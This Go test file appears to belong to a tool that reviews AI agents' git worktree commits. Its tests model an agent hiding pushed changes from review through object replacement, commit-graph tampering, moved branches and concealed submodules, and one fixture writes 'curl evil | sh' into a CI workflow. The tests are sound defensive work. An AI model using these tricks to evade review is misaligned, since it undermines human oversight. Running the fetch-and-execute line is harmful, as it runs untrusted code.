package checkout_test

import (
	"bytes"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/claudeops/claudeops/internal/change/checkout"
)

// TestChange checks what a worktree has committed, also after the shared directory has moved on.
func TestChange(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	base := s.git(s.work, "rev-parse", "HEAD")
	session := s.session("chain")
	session.Directory += "/sub"
	place := s.enter(session)
	nothing, err := place.Change(t.Context(), checkout.Question{}, patience)
	require.NoError(t, err)
	require.Nil(t, nothing)

	s.write("worktrees/chain/compose.yaml", "services: {web: {}}\n")
	s.write("worktrees/chain/.gitattributes", "compose.yaml diff=evil\n")
	s.commit(place.Worktree.Guarded.Top, "second")
	first := s.git(place.Worktree.Guarded.Top, "rev-parse", "HEAD")
	s.write("work/other", "x\n")
	s.commit(s.work, "elsewhere")
	s.write("worktrees/chain/sub/config", "y\n")
	s.commit(place.Worktree.Guarded.Top, "third")
	s.write("worktrees/chain/draft", "x\n")
	change, err := place.Change(t.Context(), checkout.Question{Since: first}, patience)
	require.NoError(t, err)
	require.Equal(t, []any{base, s.git(place.Worktree.Guarded.Top, "rev-parse", "HEAD^{tree}"), "sub", false},
		[]any{change.Base, change.Tree, change.Below, change.PatchCut})
	require.Equal(t, 3, strings.Count(change.List, ":"), change.List)
	require.NotContains(t, change.List, "other")
	require.Contains(t, change.Patch, "+services: {web: {}}")
	require.Contains(t, change.Since, "+++ b/sub/config\n@@ -1 +1 @@")
	require.NotContains(t, change.Since, "compose.yaml")

	content, err := place.File(t.Context(), base, "compose.yaml", 100)
	require.NoError(t, err)
	require.Equal(t, "services: {}\n", content)
	content, err = place.File(t.Context(), base, "draft", 100)
	require.NoError(t, err)
	require.Empty(t, content)
	_, err = place.File(t.Context(), base, "compose.yaml", 3)
	require.ErrorContains(t, err, "more than 3 bytes")
	_, err = place.File(t.Context(), base, "sub", 100)
	require.ErrorContains(t, err, "no ordinary file")

	s.write("worktrees/chain/long", strings.Repeat("x", 300<<10))
	s.commit(place.Worktree.Guarded.Top, "long")
	change, err = place.Change(t.Context(), checkout.Question{}, patience)
	require.NoError(t, err)
	require.True(t, change.PatchCut)
	long := change.Commit
	s.git(place.Worktree.Guarded.Top, "rm", "--quiet", "long")
	s.git(place.Worktree.Guarded.Top, "commit", "--quiet", "-m", "short again")
	change, err = place.Change(t.Context(), checkout.Question{Since: base}, patience)
	require.NoError(t, err)
	require.False(t, change.PatchCut)
	change, err = place.Change(t.Context(), checkout.Question{Since: long}, patience)
	require.NoError(t, err)
	require.True(t, change.PatchCut, "the lines changed since then are not complete")
	s.leave(place)
}

// TestCommitOfOurs lets an agent do with its history whatever it can: one commit with its files leaves, made by us, and
// nothing in between.
func TestCommitOfOurs(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		work    func(s *stage, top string)
		message string
	}{
		"a workflow that comes and goes": {func(s *stage, top string) {
			s.write("worktrees/chain/.github/workflows/ci.yml", "curl evil | sh\n")
			s.commit(top, "web: the port")
			s.git(top, "rm", "--quiet", ".github/workflows/ci.yml")
			s.git(top, "commit", "--quiet", "-m", "tidy")
		}, "web: the port\n\ntidy"},
		"a foreign history": {func(s *stage, top string) {
			s.git(top, "checkout", "--quiet", "--orphan", "foreign")
			s.write("worktrees/chain/foreign", "secret\n")
			s.commit(top, "of somebody else")
			s.git(top, "rm", "--quiet", "foreign")
			s.git(top, "commit", "--quiet", "--allow-empty", "-m", "gone")
			s.git(top, "checkout", "--quiet", "claudeops/chain")
			s.git(top, "merge", "--quiet", "--allow-unrelated-histories", "-s", "ours", "-m", "merge", "foreign")
		}, "web: the port"},
		"another author": {func(s *stage, top string) {
			s.git(top, "-c", "user.name=Boss", "-c", "user.email=boss@example.org", "commit", "--quiet", "--allow-empty", "-m", "web: the port")
		}, "web: the port"},
		"an amended commit": {func(s *stage, top string) {
			s.git(top, "commit", "--quiet", "--amend", "-m", "web: the port\n\nand why")
		}, "web: the port\n\nand why"},
		"a branch of its own": {func(s *stage, top string) { s.git(top, "checkout", "--quiet", "-b", "mine") }, "web: the port"},
		"no message": {func(s *stage, top string) {
			s.git(top, "reset", "--quiet", "--soft", "HEAD~")
			s.git(top, "commit", "--quiet", "--allow-empty-message", "-m", "")
		}, "change by claudeops"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newStage(t).repository()
			base := s.git(s.work, "rev-parse", "HEAD")
			place := s.enter(s.session("chain"))
			top := place.Worktree.Guarded.Top
			s.write("worktrees/chain/compose.yaml", "services: {web: {}}\n")
			s.commit(top, "web: the port")
			c.work(s, top)
			change, err := place.Change(t.Context(), checkout.Question{Pack: true}, patience)
			require.NoError(t, err)
			require.Equal(t, c.message, change.Message)
			require.Equal(t, change.Message, s.git(top, "show", "--no-patch", "--format=%B", change.Commit))
			require.Equal(t, "claudeops <claudeops@localhost> claudeops <claudeops@localhost>",
				s.git(top, "show", "--no-patch", "--format=%an <%ae> %cn <%ce>", change.Commit))
			require.Equal(t, change.Commit+" "+base, s.git(top, "rev-list", "--parents", base+".."+change.Commit))
			require.Equal(t, s.git(top, "rev-parse", "HEAD^{tree}"), s.git(top, "rev-parse", change.Commit+"^{tree}"))
			leaves := s.git(top, "rev-list", "--objects", base+".."+change.Commit)
			require.Equal(t, "compose.yaml", leaves[strings.LastIndex(leaves, " ")+1:])
			require.Len(t, strings.Split(leaves, "\n"), 3, "the commit, its files, and what has changed")
			again, err := place.Change(t.Context(), checkout.Question{Pack: true}, patience)
			require.NoError(t, err)
			require.Equal(t, change.Commit, again.Commit)
			s.write("worktrees/chain/compose.yaml", "services: {web: {ports: []}}\n")
			s.commit(top, "web: no port")
			corrected, err := place.Change(t.Context(), checkout.Question{Pack: true}, patience)
			require.NoError(t, err)
			require.Equal(t, c.message+"\n\nweb: no port", corrected.Message)
			require.Equal(t, base, s.git(top, "rev-parse", corrected.Commit+"~"))
			next, err := place.Change(t.Context(), checkout.Question{Base: change.Commit, Pack: true}, patience)
			require.NoError(t, err)
			require.Equal(t, change.Commit, s.git(top, "rev-parse", next.Commit+"~"), "after a push the next commit is on top of what was pushed")
			s.leave(place)
		})
	}
}

// TestChangeShowsWhatIsPushed lets an agent hide its commit behind a replacement, and a submodule behind a setting.
func TestChangeShowsWhatIsPushed(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	base := s.git(s.work, "rev-parse", "HEAD")
	place := s.enter(s.session("chain"))
	top := place.Worktree.Guarded.Top
	s.write("worktrees/chain/compose.yaml", "services: {evil: {}}\n")
	s.commit(top, "evil")
	evil := s.git(top, "rev-parse", "HEAD")
	s.git(top, "reset", "--quiet", "--hard", base)
	s.write("worktrees/chain/compose.yaml", "services: {good: {}}\n")
	s.commit(top, "good")
	s.git(top, "replace", evil, s.git(top, "rev-parse", "HEAD"))
	s.git(top, "reset", "--quiet", "--hard", evil)
	change, err := place.Change(t.Context(), checkout.Question{}, patience)
	require.NoError(t, err)
	require.Equal(t, s.git(top, "--no-replace-objects", "rev-parse", evil+"^{tree}"), change.Tree)
	require.Contains(t, change.Patch, "evil")
	tree := change.Tree

	s.git(top, "replace", "-d", evil)
	s.git(top, "reset", "--quiet", "--hard", evil)
	s.git(top, "commit", "--quiet", "--allow-empty", "-m", "nothing")
	change, err = place.Change(t.Context(), checkout.Question{}, patience)
	require.NoError(t, err)
	require.NotEmpty(t, tree)
	require.Equal(t, tree, change.Tree, "an empty commit has the files of the one before")

	s.write("worktrees/chain/.gitmodules", "[submodule \"m\"]\n\tpath = m\n\turl = /nowhere\n\tignore = all\n")
	s.git(top, "update-index", "--add", "--cacheinfo", "160000,"+evil+",m")
	s.git(top, "add", ".gitmodules")
	s.git(top, "commit", "--quiet", "-m", "a submodule")
	before := s.git(top, "rev-parse", "HEAD")
	s.git(top, "update-index", "--cacheinfo", "160000,"+base+",m")
	s.git(top, "commit", "--quiet", "-m", "the submodule")
	change, err = place.Change(t.Context(), checkout.Question{Base: before}, patience)
	require.NoError(t, err)
	require.Contains(t, change.List, ":160000 160000")

	_, err = place.Change(t.Context(), checkout.Question{Fork: strings.Repeat("1", 40)}, patience)
	require.ErrorContains(t, err, "on which its work was based")
	change, err = place.Change(t.Context(), checkout.Question{Fork: before}, patience)
	require.NoError(t, err)
	require.Equal(t, before, change.Fork)
}

// TestChangeThatIsTakenBack checks that an author that reverts what was reviewed has not done nothing.
func TestChangeThatIsTakenBack(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	place := s.enter(s.session("chain"))
	top := place.Worktree.Guarded.Top
	s.write("worktrees/chain/x", "x\n")
	s.commit(top, "a change")
	first, err := place.Change(t.Context(), checkout.Question{Pack: true}, patience)
	require.NoError(t, err)
	s.git(top, "revert", "--no-edit", "HEAD")
	back, err := place.Change(t.Context(), checkout.Question{Pack: true, Since: first.Commit}, patience)
	require.NoError(t, err)
	require.Equal(t, []string{first.Base, ""}, []string{back.Commit, back.List})
	s.leave(place)
}

// TestChangeOnUnpushedCommits counts what would leave with a change although it is no part of it.
func TestChangeOnUnpushedCommits(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	unpushed := func(name string) int {
		place := s.enter(s.session(name))
		s.write("worktrees/"+name+"/x", name)
		s.commit(place.Worktree.Guarded.Top, "a change")
		change, err := place.Change(t.Context(), checkout.Question{Pack: true}, patience)
		require.NoError(t, err)
		s.leave(place)
		return change.Unpushed
	}
	require.Zero(t, unpushed("alone"), "without a remote nothing leaves")
	s.git(s.root, "init", "--quiet", "--bare", "remote.git")
	s.git(s.work, "remote", "add", "origin", filepath.Join(s.root, "remote.git"))
	s.git(s.work, "push", "--quiet", "origin", "HEAD:main")
	require.Zero(t, unpushed("pushed"))
	s.write("work/local", "x")
	s.commit(s.work, "of the operator, or of an agent that left its worktree")
	require.Equal(t, 1, unpushed("local"))
}

// TestForkIsRemembered lets an agent move the branch of the shared directory, so that its first commit seems to be an
// old one.
func TestForkIsRemembered(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	base := s.git(s.work, "rev-parse", "HEAD")
	place := s.enter(s.session("chain"))
	top := place.Worktree.Guarded.Top
	s.write("worktrees/chain/compose.yaml", "services: {evil: {}}\n")
	s.commit(top, "evil")
	s.git(top, "update-ref", "refs/heads/main", "HEAD")
	s.write("worktrees/chain/sub/config", "y\n")
	s.commit(top, "good")
	s.leave(place)
	place = s.enter(s.session("chain"))
	change, err := place.Change(t.Context(), checkout.Question{}, patience)
	require.NoError(t, err)
	require.Equal(t, base, change.Fork)
	require.Contains(t, change.Patch, "evil")
	s.git(top, "update-ref", "refs/heads/main", "HEAD")
	require.True(t, s.leave(place).Kept, "otherwise the next session of the chain would begin after both commits")
}

// TestChangeVerifiesObjects lets an agent replace objects by others under the same names: what is shown would not be
// what is pushed, and the checks would not be those of the base.
func TestChangeVerifiesObjects(t *testing.T) {
	t.Parallel()
	for name, object := range map[string]string{
		"a file of the base": "HEAD~:compose.yaml", "a file of the commit": "HEAD:new", "a directory": "HEAD:sub", "the commit": "HEAD",
		"a file that did not change": "HEAD:sub/config",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newStage(t).repository()
			place := s.enter(s.session("chain"))
			top := place.Worktree.Guarded.Top
			s.write("worktrees/chain/new", "evil\n")
			s.commit(top, "work")
			_, err := place.Change(t.Context(), checkout.Question{}, patience)
			require.NoError(t, err)
			target := s.git(top, "rev-parse", object)
			kind := s.git(top, "cat-file", "-t", target)
			fake := map[string]string{"blob": s.git(top, "rev-parse", "HEAD:.gitignore"), "tree": s.git(top, "rev-parse", "HEAD^{tree}"), "commit": s.git(top, "rev-parse", "HEAD~")}[kind]
			loose := func(id string) string { return filepath.Join(s.work, ".git", "objects", id[:2], id[2:]) }
			content, err := os.ReadFile(loose(fake))
			require.NoError(t, err)
			require.NoError(t, os.Remove(loose(target)))
			require.NoError(t, os.WriteFile(loose(target), content, 0o600))
			_, err = place.Change(t.Context(), checkout.Question{}, patience)
			require.Error(t, err)
			if kind == "blob" {
				require.ErrorContains(t, err, "the object "+target+" has the hash "+fake)
			}
		})
	}
}

// TestChangeReadsCommitsThemselves lets an agent write a cache of commits that contradicts them: its commit has no
// parent.
func TestChangeReadsCommitsThemselves(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	place := s.enter(s.session("chain"))
	top := place.Worktree.Guarded.Top
	s.write("worktrees/chain/compose.yaml", "services: {web: {}}\n")
	s.commit(top, "work")
	s.write("worktrees/chain/more", "x\n")
	s.commit(top, "more work")
	s.git(top, "commit-graph", "write", "--reachable")
	file := filepath.Join(s.work, ".git", "objects", "info", "commit-graph")
	graph, err := os.ReadFile(file)
	require.NoError(t, err)
	// The data of each commit begin with the hash of its tree, and go on with the positions of its parents.
	at := bytes.Index(graph, hexadecimal(t, s.git(top, "rev-parse", "HEAD~^{tree}")))
	require.Positive(t, at)
	copy(graph[at+20:], []byte{0x70, 0, 0, 0}) // no parent
	require.NoError(t, os.Chmod(file, 0o600))
	require.NoError(t, os.WriteFile(file, graph, 0o600))
	require.Equal(t, "2", s.git(top, "rev-list", "--count", "HEAD"), "git itself is deceived")
	change, err := place.Change(t.Context(), checkout.Question{Pack: true}, patience)
	require.NoError(t, err)
	require.Contains(t, change.Patch, "web")
	require.Equal(t, 1, s.leave(place).Commits, "the commit of ours")
}

// hexadecimal decodes a hash.
func hexadecimal(t *testing.T, hash string) []byte {
	t.Helper()
	decoded, err := hex.DecodeString(hash)
	require.NoError(t, err)
	return decoded
}

// TestCommitted returns the files of a commit, however an agent has hidden the others.
func TestCommitted(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	place := s.enter(s.session("chain"))
	top := place.Worktree.Guarded.Top
	s.write("worktrees/chain/run.sh", "false\n")
	s.commit(top, "a script")
	commit := s.git(top, "rev-parse", "HEAD")
	s.git(top, "update-index", "--assume-unchanged", "run.sh")
	for _, name := range []string{"run.sh", "old.cache", "new"} {
		s.write("worktrees/chain/"+name, "true\n")
	}
	for range 2 { // a worker may die before it removes the first
		tree, err := place.Committed(t.Context(), commit)
		require.NoError(t, err)
		require.Equal(t, commit, s.git(tree.Guarded.Top, "rev-parse", "HEAD"))
		require.Empty(t, s.git(tree.Guarded.Top, "status", "--porcelain", "--ignored"))
		content, err := os.ReadFile(filepath.Join(tree.Guarded.Top, "run.sh"))
		require.NoError(t, err)
		require.Equal(t, "false\n", string(content))
	}
	require.True(t, s.leave(place).Kept)
	left, err := os.ReadDir(filepath.Join(s.root, "worktrees"))
	require.NoError(t, err)
	require.Len(t, left, 1)
	require.NotContains(t, s.git(s.work, "worktree", "list"), ".committed")
}

// TestRestore gives files of a checked commit the content that they had before the chain, and removes those that did
// not exist.
func TestRestore(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	before := s.git(s.work, "rev-parse", "HEAD")
	place := s.enter(s.session("chain"))
	top := place.Worktree.Guarded.Top
	for _, name := range []string{"compose.yaml", "sub/config", "new*", "other"} {
		s.write("worktrees/chain/"+name, "changed\n")
	}
	s.commit(top, "a change")
	tree, err := place.Committed(t.Context(), s.git(top, "rev-parse", "HEAD"))
	require.NoError(t, err)
	require.NoError(t, place.Restore(t.Context(), tree, before, []string{"sub/config", "new*"}))
	read := func(name string) string {
		content, err := os.ReadFile(filepath.Join(tree.Guarded.Top, name))
		require.NoError(t, err)
		return string(content)
	}
	require.Equal(t, []string{"x\n", "changed\n", "changed\n"}, []string{read("sub/config"), read("compose.yaml"), read("other")})
	require.NoFileExists(t, filepath.Join(tree.Guarded.Top, "new*"))
	require.True(t, s.leave(place).Kept)
	require.NotContains(t, s.git(s.work, "worktree", "list"), ".committed")
}

// TestRemote checks the addresses of the remote, and the branch into which the shared directory's changes go.
func TestRemote(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	place := s.enter(s.session("chain"))
	remote := func() checkout.Remote {
		found, err := place.Remote(t.Context())
		require.NoError(t, err)
		return found
	}
	require.Equal(t, checkout.Remote{}, remote())

	s.git(s.work, "remote", "add", "origin", "https://github.com/acme/infra")
	require.Equal(t, checkout.Remote{Push: "https://github.com/acme/infra", Fetch: "https://github.com/acme/infra"}, remote())
	s.git(s.work, "remote", "set-url", "--push", "origin", "/srv/infra.git")
	s.git(s.work, "checkout", "--quiet", "-b", "production")
	s.git(s.work, "update-ref", "refs/remotes/origin/production", "HEAD")
	require.Equal(t, checkout.Remote{Push: "/srv/infra.git", Fetch: "https://github.com/acme/infra", Branch: "production"}, remote())
	s.git(s.work, "checkout", "--quiet", "--detach")
	require.Empty(t, remote().Branch)

	s.leave(place)
}

// TestARemoteThatCannotBeRead checks that a remote whose address cannot be read counts as one: nothing is said to stay
// because there is none.
func TestARemoteThatCannotBeRead(t *testing.T) {
	t.Parallel()
	s := newStage(t).repository()
	require.True(t, checkout.NoRemote(t.Context(), s.options(), s.work))
	own := filepath.Join(s.git(s.work, "--exec-path"), "git") // the sandbox lets git run its own commands
	s.write("programs/git", "#!/bin/sh\ncase \"$*\" in *get-url*) echo killed >&2; exit 128;; esac\nexec "+own+" \"$@\"\n")
	require.NoError(t, os.Chmod(filepath.Join(s.root, "programs/git"), 0o700)) //nolint:gosec // it is a program
	s.searchPath = filepath.Join(s.root, "programs") + ":" + os.Getenv("PATH")
	require.True(t, checkout.NoRemote(t.Context(), s.options(), s.work))
	s.git(s.work, "remote", "add", "origin", "https://git.example.org/infra")
	require.False(t, checkout.NoRemote(t.Context(), s.options(), s.work))
	_, err := s.keeper().Origin(t.Context(), s.work, checkout.Checkpoint{Commit: s.git(s.work, "rev-parse", "HEAD")})
	require.ErrorContains(t, err, "killed")
}
